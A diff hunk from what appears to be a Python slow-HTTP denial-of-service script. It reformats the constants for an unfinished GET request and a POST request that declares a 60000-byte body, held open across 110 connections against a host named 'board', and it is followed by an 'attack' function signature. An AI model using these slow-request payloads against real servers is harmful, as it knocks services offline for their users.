@@ -9,7 +9,10 @@ CONNECTIONS = 110
 PAUSE = 1.0
 HEADERS = b"GET /api/v1/boards HTTP/1.1\r\nHost: board\r\n"
 WHOLE = HEADERS + b"\r\n"
-BODY = b"POST /api/v1/sessions HTTP/1.1\r\nHost: board\r\nContent-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
+BODY = (
+    b"POST /api/v1/sessions HTTP/1.1\r\nHost: board\r\n"
+    b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n"
+)
 
 
 async def attack(target: Target) -> None:
